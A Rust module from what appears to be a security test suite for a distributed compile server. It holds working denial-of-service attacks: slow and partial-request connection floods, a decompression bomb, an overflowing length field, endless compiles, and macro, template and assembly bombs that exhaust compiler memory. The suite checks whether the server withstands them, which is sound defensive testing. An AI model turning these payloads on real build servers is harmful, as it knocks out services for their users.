//! Ways to keep a server from real jobs, or to have it spend all it has.

use std::io::Write;
use std::net::TcpStream;
use std::sync::OnceLock;
use std::sync::atomic::{AtomicBool, Ordering};
use std::thread::{scope, sleep};
use std::time::{Duration, Instant};

use super::abuse::costs_memory;
use super::vanishing::{ENDLESS, LOOP};
use crate::attack::{Attack, Scene};
use crate::processes::Process;
use crate::run::job;
use crate::victim::{JOBS, PATIENCE};
use crate::wire::{Protocol, bomb, expanded, read_answer, send, token};

pub(super) const ATTACKS: &[Attack] = &[
    Attack::behaves("one byte", |scene| starves(scene, b"D")),
    Attack::behaves("half a token", |scene| starves(scene, b"DIST0000")),
    Attack::behaves("a greeting", |scene| starves(scene, &scene.protocol.greeting())),
    Attack::behaves("a command without words", |scene| {
        starves(scene, &[scene.protocol.greeting(), token("ARGC", 5)].concat())
    }),
    Attack::behaves("half a word", |scene| {
        let (greeting, argc) = (scene.protocol.greeting(), token("ARGC", 5));
        starves(scene, &[greeting, argc, token("ARGV", 3), b"gc".to_vec()].concat())
    }),
    Attack::behaves("a command without a source", |scene| {
        starves(scene, &scene.protocol.head(&COMMAND))
    }),
    Attack::behaves("half a source", |scene| starves(scene, &half_a_source(scene.protocol))),
    Attack::behaves("a source byte by byte", trickles),
    Attack::behaves("a command byte by byte", trickles_a_command),
    Attack::behaves("answers that nobody reads", |scene| {
        let request = job(scene.victim, scene.protocol, &["gcc"], incompressible());
        // No more than are taken, for the others would not even be rid of their sources.
        let _clients: Vec<_> = (0..JOBS).map(|_| send(scene.victim, &request)).collect();
        !scene.victim.does_a_job(scene.victim.patience())
    }),
    Attack::behaves("a flood of warnings", floods),
    Attack::behaves("a block of 660 kB that expands to 160 MB", expands).by_lzo(),
    Attack::behaves("a block of 512 MiB", spins).by_lzo(),
    Attack::behaves("a compile without end", never_ends).needs_cage(),
    Attack::behaves("macros that expand to gigabytes", |scene| {
        eats(scene, &["gcc", "-fdirectives-only"], MACROS)
    })
    .needs_cage(),
    Attack::behaves("templates without end", |scene| eats(scene, &["g++"], TEMPLATES)).needs_cage(),
    Attack::behaves("assembly that repeats itself", |scene| eats(scene, &["gcc"], REPEATS))
        .needs_cage(),
];

const COMMAND: [&str; 5] = ["gcc", "-c", "a.c", "-o", "a.o"];
/// More than a compiler needs for any other source of these tests.
const MUCH: u64 = 150 << 20;
/// With the line before that gcc begins every such text with.
const MACROS: &str = "# 0 \"main.c\"\n#define A(x) x x x x x x x x\n#define B(x) A(A(A(x)))\n\
    int f(int x) { return B(B(B(x +))) 1; }\n";
const TEMPLATES: &str = "template<class T, int N> struct B {};\n\
    template<int N, class T> struct A { typedef typename A<N - 1, B<T, 0> >::t a; \
    typedef typename A<N - 1, B<T, 1> >::t b; typedef B<a, N> t; };\n\
    template<class T> struct A<0, T> { typedef B<T, 2> t; };\nA<22, int>::t x;\n";
const REPEATS: &str = "asm(\".rept 40000000\\n.quad 1\\n.endr\");\n";

fn half_a_source(protocol: Protocol) -> Vec<u8> {
    [protocol.head(&COMMAND), token("DOTI", 1000), b"int x;".to_vec()].concat()
}

/// Four clients for each compile that the server does at once.
pub(super) fn crowd(scene: &Scene, bytes: &[u8]) -> Vec<TcpStream> {
    (0..4 * JOBS).map(|_| send(scene.victim, bytes)).collect()
}

/// Does a crowd that has sent this keep a real job from being done?
fn starves(scene: &Scene, bytes: &[u8]) -> bool {
    let _crowd = crowd(scene, bytes);
    !scene.victim.does_a_job(scene.victim.patience())
}

fn trickles(scene: &Scene) -> bool {
    trickles_behind(scene, &half_a_source(scene.protocol))
}

fn trickles_a_command(scene: &Scene) -> bool {
    let (greeting, argc) = (scene.protocol.greeting(), token("ARGC", 5));
    trickles_behind(scene, &[greeting, argc, token("ARGV", 1000)].concat())
}

/// The same of one that goes on sending, a byte now and then.
fn trickles_behind(scene: &Scene, bytes: &[u8]) -> bool {
    let mut crowd = crowd(scene, bytes);
    let done = AtomicBool::new(false);
    scope(|threads| {
        threads.spawn(|| {
            while !done.load(Ordering::Relaxed) {
                for client in &mut crowd {
                    let _ = client.write_all(b" ");
                }
                sleep(Duration::from_millis(100));
            }
        });
        let starved = !scene.victim.does_a_job(scene.victim.patience());
        done.store(true, Ordering::Relaxed);
        starved
    })
}

/// A source whose object is 12 MB in any protocol: more than sockets hold.
fn incompressible() -> &'static str {
    static SOURCE: OnceLock<String> = OnceLock::new();
    SOURCE.get_or_init(make_incompressible)
}

fn make_incompressible() -> String {
    let mut state = 1_u32;
    let mut letter = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from(b'0' + u8::try_from(state >> 26).unwrap())
    };
    let text: String = (0..12 << 20).map(|_| letter()).collect();
    format!("const char x[] = \"{}\";\n", text.replace(['?', '\\'], "!"))
}

/// Do compiles that never end keep a real job from being done, for longer than any of them takes?
fn never_ends(scene: &Scene) -> bool {
    let request = job(scene.victim, scene.protocol, ENDLESS, LOOP);
    let _clients: Vec<_> = (0..2 * JOBS).map(|_| send(scene.victim, &request)).collect();
    let begun = Instant::now();
    let n_at_work =
        || scene.victim.processes().iter().filter(|process| process.name == "cc1plus").count();
    while n_at_work() < JOBS && begun.elapsed() < PATIENCE {
        sleep(Duration::from_millis(10));
    }
    !scene.victim.does_a_job(Duration::from_secs(3))
}

/// Are more of the compiler's words sent than anybody would read?
fn floods(scene: &Scene) -> bool {
    let words = "x".repeat(1000);
    let source = format!("asm(\".rept 25000\\n.warning \\\"{words}\\\"\\n.endr\");\n");
    let request = job(scene.victim, scene.protocol, &["gcc"], &source);
    let mut client = send(scene.victim, &request);
    let (answer, closed) = read_answer(&mut client, PATIENCE);
    assert!(closed);
    expanded(scene.protocol, &answer, 64 << 20).len() > 17 << 20
}

/// Does a small block take as much memory as it claims to have text?
fn expands(scene: &Scene) -> bool {
    let block = bomb(160 << 20);
    let len = token("DOTI", u32::try_from(block.len()).unwrap());
    costs_memory(scene, &[scene.protocol.head(&COMMAND), len, block].concat(), 128 << 20)
}

/// Does a block of a length that overflows when it is multiplied keep the server busy after its
/// client has left?
fn spins(scene: &Scene) -> bool {
    let head = [scene.protocol.head(&COMMAND), token("DOTI", 0x2000_0000)].concat();
    let mut client = send(scene.victim, &head);
    let piece = vec![0xff; 1 << 20];
    // Ours refuses the number; what is sent all the same is not taken.
    let sent_all = (0..512).all(|_| client.write_all(&piece).is_ok());
    drop(client);
    if !sent_all {
        return !scene.victim.does_a_job(scene.victim.patience());
    }
    let cpu_ticks = || scene.victim.workers().iter().map(Process::cpu_ticks).sum::<u64>();
    let (before, begun) = (cpu_ticks(), Instant::now());
    while begun.elapsed() < PATIENCE {
        // A second of a processor, which nothing that is left to read would take.
        if cpu_ticks() > before + 100 {
            return true;
        }
        sleep(Duration::from_millis(50));
    }
    false
}

/// Does a compiler of this job take more memory than one should get?
fn eats(scene: &Scene, argv: &[&str], source: &str) -> bool {
    let mut client = send(scene.victim, &job(scene.victim, scene.protocol, argv, source));
    let begun = Instant::now();
    while begun.elapsed() < PATIENCE {
        let compilers = scene.victim.processes();
        if compilers.iter().any(|process| process.peak_memory() > MUCH) {
            return true;
        }
        if read_answer(&mut client, Duration::from_millis(50)).1 {
            return false;
        }
    }
    false
}
